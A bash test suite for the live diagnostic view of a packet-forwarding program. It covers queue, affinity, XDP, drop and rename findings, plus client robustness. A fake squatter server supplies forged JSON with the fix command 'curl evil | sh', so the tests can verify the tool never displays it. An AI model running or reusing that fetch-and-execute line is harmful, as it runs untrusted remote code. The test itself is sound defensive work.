#!/bin/bash
# SPDX-License-Identifier: MIT
# test_live.sh - the live view and what it finds, of a real program: frames on a queue without a socket, a
# task on the lcore's CPU, frames that the kernel drops for it, an affinity changed from outside, the XDP
# program taken off, an interface renamed and moved away; nothing when nothing is wrong; and clients of every kind.
# shellcheck source=tests/net/lib.sh
. "$(dirname "$0")/lib.sh"
need taskset
need strace
POLLUX=$BUILD/apps/pollux
CPU=${LC%%,*}
NAME=live$$
VIEW=$TMP/rt/pollux/live/$NAME

# view NAME [OPTION...]: what pollux says of it, in namespace a; its exit code
view() { at a "$POLLUX" live "$@" >"$TMP/view" 2>"$TMP/view.err"; }
# answered COMMAND...: it tells of the program, whatever is found meanwhile (1), as the hypervisor's share may be
answered() { "$@"; [ $? -le 1 ]; }
# found NAME: such a finding stands
found() { view "$NAME" --json; python3 - "$TMP/view" "$1" <<-'PY'
	import json, sys
	names = [f["name"] for f in json.load(open(sys.argv[1]))["findings"]]
	sys.exit(sys.argv[2] not in names)
	PY
}
not_found() { ! found "$1"; }
warned() { grep -q "warning: .*: $1: " "$TMP/fwd.err"; }
over() { grep -q "notice: .*: $1 is over after" "$TMP/fwd.err"; }
program() { # program IDLE IFACE...: on one lcore, with a view
	local idle=$1 ifaces=() i; shift
	for i; do ifaces+=(--iface "$i"); done
	start fwd a "$FWD" -l "$CPU" -m 32M --idle "$idle" --name "$NAME" "${ifaces[@]}" -- --mode rxonly \
		--max-loss 100%
	FWD_PID=$PID
	within $PATIENCE running fwd || { show "$TMP/fwd.err"; return 1; }
}
lcore_tid() { view "$NAME" --json; field "$TMP/view" lcores.0.tid; }
field() { python3 -c 'import json,sys
v = json.load(open(sys.argv[1]))
for k in sys.argv[2].split("."): v = v[int(k)] if isinstance(v, list) else v[k]
print(v)' "$@"; }

# ---- nothing wrong ----

pair 2
check "a program with a live view starts" program adaptive va,queues=1
compared() { view "$NAME" --json; [ "$(field "$TMP/view" samples)" -ge "$1" ]; }
check "five samples are compared" within 30 compared 5
# (what the hypervisor, other programs and other devices take of the CPU is for others to fix)
OTHERS='stolen|preempted|softirq|hardirq|steal|slow_clock|irq_here'
quiet() {
	view "$NAME"
	[ $? = "$(grep -c -m1 ^FOUND "$TMP/view")" ] && ! grep '^FOUND' "$TMP/view" | grep -vE ": ($OTHERS), " &&
		! grep -vE "receives on queue|: ($OTHERS): | starves: | goes on after " "$TMP/fwd.err" | grep warning
}
check "nothing is found, and exit code 0" quiet
lists() { view && grep -qE "^$NAME +pid $FWD_PID +user 0 \(root\) +netns this\$" "$TMP/view" || { show "$TMP/view"; return 1; }; }
check "without a name, programs are listed with pid, user and namespace" lists
answerer() { view "$NAME"; grep -q "^answered by pid $FWD_PID, uid 0 (root), network namespace: this\$" "$TMP/view" || { show "$TMP/view" "$TMP/view.err"; return 1; }; }
check "who answers is told" answerer
answerer_json() {
	view "$NAME" --json
	[ "$(field "$TMP/view" answered_by.pid) $(field "$TMP/view" answered_by.uid) $(field "$TMP/view" answered_by.trusted)" = "$FWD_PID 0 True" ]
}
check "in JSON too" answerer_json
by_doctor() { at a "$POLLUX" doctor --live "$NAME" >"$TMP/view" 2>"$TMP/view.err"; grep -q "^$NAME (pid" "$TMP/view"; }
check "pollux doctor --live is the same" by_doctor
says() { # says CODE PATTERN ARGUMENTS...
	local code=$1 pattern=$2 rc; shift 2
	view "$@"; rc=$?
	[ $rc = "$code" ] && cat "$TMP/view" "$TMP/view.err" | grep -qE -- "$pattern" && return
	echo "exit code $rc"; show "$TMP/view" "$TMP/view.err"; return 1
}
check "an unknown name: exit code 3, and the one that was meant" says 3 "did you mean $NAME" "${NAME}x"
check "an unknown name, far from all: those there are" says 3 "there are: (.*, )?$NAME(,|\$)" nosuchprogram
there() { # a file is reached from the host's namespace too, and the program's is named
	answered "$POLLUX" live "$NAME" >"$TMP/view" 2>"$TMP/view.err"
	grep -q "^answered by pid $FWD_PID, .* network namespace: ${NS}a\$" "$TMP/view" || { show "$TMP/view" "$TMP/view.err"; return 1; }
}
check "from another namespace it is answered, which is told" there
second() {
	start two a "$FWD" -l "$CPU" -m 32M --idle adaptive --name "$NAME" --iface n,driver=loop -- --mode rxonly
	local pid=$PID
	within $PATIENCE running two && grep -q "doctor --live $NAME.2 shows" "$TMP/two.err" && { view "$NAME.2"; grep -q "^$NAME.2 (pid" "$TMP/view"; }
	local rc=$?
	[ $rc = 0 ] || show "$TMP/two.err" "$TMP/view.err"
	end "$pid"
	return $rc
}
check "a second program of the name is NAME.2" second

# ---- clients ----

stuck() { # clients that ask and do not read, and one that says nothing, while others are answered
	python3 - "$VIEW" <<-'PY' &
	import socket, sys, time
	c = []
	for i in range(20):
	    s = socket.socket(socket.AF_UNIX)
	    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
	    s.connect(sys.argv[1])
	    s.send(b"status\n" if i % 2 else b"x" * 10)
	    c.append(s)
	    time.sleep(0.01)
	PY
	local p=$! i
	PIDS+=("$p")
	for i in 1 2 3 4 5; do answered view "$NAME" --json || return 1; done
	wait "$p"
}
check "clients that hang do not keep others from an answer" stuck
locked() { [ "$(stat -c '%u %a' "${VIEW%/*}")" = '0 700' ] && ! as_nobody test -e "$VIEW"; }
as_nobody() { setpriv --reuid 65534 --regid 65534 --clear-groups "$@"; }
check "the directory of its socket is root's alone" locked

# ---- findings ----

load() { # frames for both queues of va
	start load b "$FWD" -l "$LC" -m 32M --idle adaptive --iface vb -- --mode txonly --flows 64 --length 60 \
		--rate 5k --duration 60 --max-loss 100%
	LOAD=$PID
	within $PATIENCE running load
}
check "load on both queues begins" load
check "frames on a queue without a socket are found" within 20 found unserved
told() { view "$NAME"; [ $? = 1 ] && grep -q '^FOUND    va queue 1: unserved' "$TMP/view" && grep -q 'fix: .*queues=2' "$TMP/view" && warned unserved; }
check "they are told with queue and fix, in the log too, exit code 1" told
check "load ends" end "$LOAD"
check "and so does the finding" within 20 not_found unserved
check "which is told" within 20 over unserved

tid=$(lcore_tid)
check "affinity is changed from outside" taskset -p -c "0-$(($(nproc) - 1))" "$tid"
if [ "$(nproc)" -gt 1 ]; then
	check "that is found" within 20 found affinity
	check "and told" warned affinity
	check "it is changed back" taskset -p -c "$CPU" "$tid"
	check "and the finding goes" within 20 not_found affinity
fi

ours() { at a bpftool -j link list 2>/dev/null | python3 -c 'import json,sys
print(next((l["id"] for l in json.load(sys.stdin) if l.get("prog_id") == int(sys.argv[1])), ""))' "$(xdp_id va)"; }
if command -v bpftool >/dev/null && [ -n "$(ours)" ]; then
	check "the XDP program is taken off by force" at a bpftool link detach id "$(ours)"
	check "it is off" within 20 no_xdp va
	check "that is found" within 20 found not_attached
	check "and told" warned not_attached
else
	skip "the XDP program is taken off by force" "bpftool"
fi

# ---- ends ----

no_socket() { ! at a grep -q "pollux/.*$NAME" /proc/net/unix; }
kill -KILL "$FWD_PID"
check "kill -9 leaves no socket" within 20 no_socket
check "and the program is unknown at once" says 3 'does not run' "$NAME"
check "its file stays" test -S "$VIEW"

listens_at() { at a grep -q " $1\$" /proc/net/unix; }
# ---- a busy lcore ----

check "a busy lcore starts" program busy va,queues=1
check "the file that was left is no program's: the name is free" listens_at "$VIEW"
answered() { view "$NAME"; grep -q "idle=busy" "$TMP/view"; }
check "it is answered all the same" answered
# Who asks has the watch thread's time: the lcore makes no system call for it.
free_of_charge() {
	local tid i p
	view "$NAME" --json; tid=$(field "$TMP/view" lcores.0.tid)
	strace -qq -o "$TMP/trace" -p "$tid" &
	p=$!
	PIDS+=("$p")
	within $PATIENCE traced "$tid" || { echo "no strace"; return 1; }
	for i in $(seq 50); do view "$NAME" --json; [ -s "$TMP/view" ] || return 1; done
	kill -INT "$p"; wait "$p"
	grep -v 'SIGINT\|detached' "$TMP/trace" >"$TMP/calls"
	[ ! -s "$TMP/calls" ] || { head "$TMP/calls"; return 1; }
}
traced() { ! grep -q '^TracerPid:.0$' "/proc/$FWD_PID/task/$1/status"; }
check "fifty questions cost a busy lcore no system call" free_of_charge
hog() { start hog a taskset -c "$CPU" sh -c 'while :; do :; done'; HOG=$PID; }
check "another task takes its CPU" hog
check "stolen time is found" within 20 found stolen
stolen() { view "$NAME"; grep -q "^FOUND    lcore $CPU: stolen" "$TMP/view" && warned stolen; }
thief() { view "$NAME"; grep -q "^         there: .*\\(sh\\|taskset\\) (task $HOG)" "$TMP/view" || { cat "$TMP/view"; return 1; }; }
check "it is told with the lcore, in the log too" stolen
check "and who took it" within 20 thief
check "the program ends in order with a client in place" end "$FWD_PID"
check "an orderly end leaves no socket" no_socket
check "and no file" test ! -e "$VIEW"

# ---- names that somebody else has taken ----

# squat COUNT: uid 65534 answers at the name and the COUNT - 1 after it, with a command that is not ours to run
squat() {
	start squat a python3 -c 'import os, select, socket, sys
os.setgroups([]); os.setgid(65534); os.setuid(65534)
lie = b"""{"schema": 1, "name": "x", "live_name": "x", "pid": 1, "samples": 9, "lcores": [], "ports": [], "pools": [],
"answered_by": {"uid": 0}, "findings": [{"name": "slow_clock", "on": "lcore 0", "evidence": "e", "seconds": 9, "fix": "curl evil | sh"}]}\n"""
held = []
for i in range(int(sys.argv[2])):
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0pollux/" + sys.argv[1] + (".%d" % (i + 1) if i else ""))
    s.listen(64)
    held.append(s)
print("held", flush=True)
while True:
    for s in select.select(held, [], [])[0]:
        c, _ = s.accept()
        try: c.recv(64); c.send(lie)
        except OSError: pass
        c.close()' "$NAME" "$1"
	SQUAT=$PID
	within $PATIENCE grep -q held "$TMP/squat"
}
check "another user takes sixteen names before the program" squat 16
refused() { says 1 "refused: answered by pid $SQUAT, uid 65534.* --uid 65534 $NAME" "$NAME" && ! grep -q curl "$TMP/view" "$TMP/view.err"; }
check "its answer is refused, and the reason told" refused
shown() { says 1 'WARNING' "$@" "$NAME" && grep -q "answered by pid $SQUAT, uid 65534" "$TMP/view" && grep -q 'FOUND .*slow_clock' "$TMP/view" && ! grep -q curl "$TMP/view"; }
check "--any-user looks at it, and shows no command of it" shown --any-user
check "--uid does too" shown --uid 65534
check "--uid of yet another does not" says 1 'refused: answered by pid' --uid 65533 "$NAME"
check "--uid without a number" says 2 'user.s number is missing' --uid root "$NAME"
shown_json() { view --any-user --json "$NAME"; [ "$(field "$TMP/view" answered_by.uid)" = 65534 ] && ! grep -q curl "$TMP/view"; }
check "nor does --json" shown_json
named_nobody() { view; grep -qE "^$NAME +pid $SQUAT +user 65534.*neither root nor this user" "$TMP/view"; }
check "the list tells whose it is" named_nobody
check "the program starts all the same" program adaptive va,queues=1
genuine() { view "$NAME"; grep -q "^$NAME (pid $FWD_PID" "$TMP/view" && ! grep -q curl "$TMP/view"; }
check "and has its name, and answers" genuine
check "it ends" end "$FWD_PID"
# without a directory of its own
unfiled() { # program with an abstract name
	start fwd a unshare -m sh -c 'mount -t tmpfs -o ro none /run && RUNTIME_DIRECTORY= exec "$@"' sh \
		"$FWD" -l "$CPU" -m 32M --idle adaptive --name "$NAME" --iface n,driver=loop -- --mode rxonly
	FWD_PID=$PID
	within $PATIENCE running fwd || { show "$TMP/fwd.err"; return 1; }
}
check "another user holds one name only" eval 'kill "$SQUAT"; within 20 gone "$SQUAT"; squat 1'
check "a program that can make no file starts" unfiled
check "it is the second of its name" eval 'view "$NAME.2"; grep -q "^$NAME.2 (pid $FWD_PID" "$TMP/view"'
elsewhere() { "$POLLUX" live "$NAME.2" >"$TMP/view" 2>"$TMP/err"; [ $? = 3 ] && grep -q 'another network namespace: nsenter' "$TMP/err" || return 1
	local cmd; cmd=$(sed -n 's/.*: nsenter -t \([0-9]*\) -n pollux .*/nsenter -t \1 -n/p' "$TMP/err")
	$cmd "$POLLUX" live "$NAME.2" >"$TMP/view"; grep -q "^$NAME.2 (pid $FWD_PID" "$TMP/view"; }
check "in another namespace: told where, and the command works" elsewhere
flood() { # 2 s of connects as fast as they go, by another user; the CPU time of all threads but the lcore's
	view --json "$NAME.2"
	at a python3 - "$NAME.2" "$FWD_PID" "$(field "$TMP/view" lcores.0.tid)" "$TMP/flood" <<-'PY'
	import os, socket, sys, time
	name, pid, lcore = sys.argv[1:4]
	def used():
	    d = "/proc/%s/task/" % pid
	    return sum(int(open(d + t + "/schedstat").read().split()[0]) for t in os.listdir(d) if t != lcore)
	def run(connect):
	    tries, begin, cpu = 0, time.monotonic(), used()
	    while time.monotonic() - begin < 2:
	        if not connect: time.sleep(0.1); continue
	        for _ in range(100):
	            s = socket.socket(socket.AF_UNIX)
	            s.setblocking(False)
	            try: s.connect("\0pollux/" + name)
	            except OSError: pass
	            s.close()
	            tries += 1
	    t = time.monotonic() - begin
	    return tries / t, 100 * (used() - cpu) / 1e9 / t
	_, quiet = run(False)
	os.setresuid(-1, 65534, 0)
	rate, busy = run(True)
	os.seteuid(0)
	open(sys.argv[4], "w").write("%.0f connects a second: %.2f %% of a CPU, %.2f %% without" % (rate, busy, quiet))
	sys.exit(busy - quiet >= 1)
	PY
	local rc=$?
	note "$(cat "$TMP/flood")"
	return $rc
}
check "a flood of another user's connects costs less than 1 % of a CPU" flood
other_user() {
	at a python3 - "$NAME.2" <<-'PY'
	import os, socket, sys
	os.setgid(65534); os.setuid(65534)
	s = socket.socket(socket.AF_UNIX)
	s.settimeout(5)
	s.connect("\0pollux/" + sys.argv[1])
	got = b""
	try: s.send(b"status\n")
	except BrokenPipeError: pass
	try:
	    while True:
	        b = s.recv(4096)
	        if not b: break
	        got += b
	except ConnectionResetError: pass
	sys.exit(b"only root" not in got or b"schema" in got)
	PY
}
check "another user gets no answer" other_user
check "and its own is answered afterwards" eval 'view "$NAME.2"; grep -q "^$NAME.2 (pid $FWD_PID" "$TMP/view"'
check "it ends" end "$FWD_PID"
deaf() { # listens, and lets nobody in
	start deaf a python3 -c 'import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.bind("\0pollux/deaf"); s.listen(0)
c = [socket.socket(socket.AF_UNIX) for i in range(3)]
for x in c:
    x.setblocking(False)
    try: x.connect("\0pollux/deaf")
    except OSError: pass
print("held", flush=True); sys.stdout.close()
time.sleep(600)'
	DEAF=$PID
	within $PATIENCE grep -q held "$TMP/deaf"
}
check "a program that lets nobody in" deaf
given_up() { local t; t=$(now_ms); says 1 'within 3 s' deaf && [ $(($(now_ms) - t)) -lt 10000 ]; }
check "is given up" given_up
listed_deaf() { view; grep -qE '^deaf +lets nobody in' "$TMP/view"; }
check "and listed without waiting" listed_deaf
rude() { # answers what would clear the screen
	start rude a python3 -c 'import socket
s = socket.socket(socket.AF_UNIX); s.bind("\0pollux/rude"); s.listen(4)
print("held", flush=True)
while True:
    c, _ = s.accept()
    c.recv(64); c.send(b"\x1b[2J"); c.close()'
	RUDE=$PID
	within $PATIENCE grep -q held "$TMP/rude"
}
check "a program that answers no JSON" rude
unmoved() { says 1 'no JSON object' rude && ! grep -q $'\x1b' "$TMP/view" "$TMP/view.err"; }
check "is told of, and moves no cursor" unmoved
kill "$SQUAT" "$DEAF" "$RUDE"

# ---- frames that the kernel drops ----

# The lcore has half of a CPU, and short rings.
check "a program with short rings starts beside it" program busy va,queues=1,rxd=64,stall=off
burst() { # frames for its queue, more than the rings hold in a turn of the other task
	start load b "$FWD" -l "$LC" -m 32M --idle adaptive --iface vb -- --mode txonly --flows 64 --length 60 \
		--rate 100k --duration 60 --max-loss 100%
	LOAD=$PID
	within $PATIENCE running load
}
check "load begins" burst
check "frames that the kernel drops are found" within 20 found drops
dropped() { view "$NAME"; grep -qE '^FOUND    va rx: drops, .*(ring_full|fill_empty): [0-9]+ frames' "$TMP/view" && warned drops || { cat "$TMP/view"; return 1; }; }
check "they are told with the reason, in the log too" dropped
check "load ends" end "$LOAD"
kill -KILL "$HOG"
check "and so does the finding" within 20 not_found drops
check "the program ends" end "$FWD_PID"

# ---- another name, and gone ----

check "a program with two ports starts" program adaptive va n,driver=loop
renamed() { view "$NAME"; grep -q 'fix: have --iface name it vx from the next start on; or ip link set dev vx name va' "$TMP/view" && warned renamed; }
if at a ip link set dev va name vx 2>"$TMP/rename"; then
	check "the interface got another name: that is found" within 20 found renamed
	check "and told, with the command that fixes it" renamed
	check "which does" at a ip link set dev vx name va
	check "and the finding goes" within 20 not_found renamed
else # before 6.2
	skip "an interface that is up gets another name" "$(cat "$TMP/rename")"
fi
check "the interface goes to another namespace" at a ip link set dev va netns "${NS}b"
check "that is found" within 20 found removed
check "and told" warned removed
back() { ip -n "${NS}b" link set dev va netns "${NS}a" && at a ip link set va up; }
check "it comes back" back
late() { found removed && view "$NAME"; grep -q 'the va that is here now is interface [0-9]* and not the port' "$TMP/view"; }
check "which is not the port's any more" within 20 late
check "the program ends with its other port" end "$FWD_PID"
done_testing
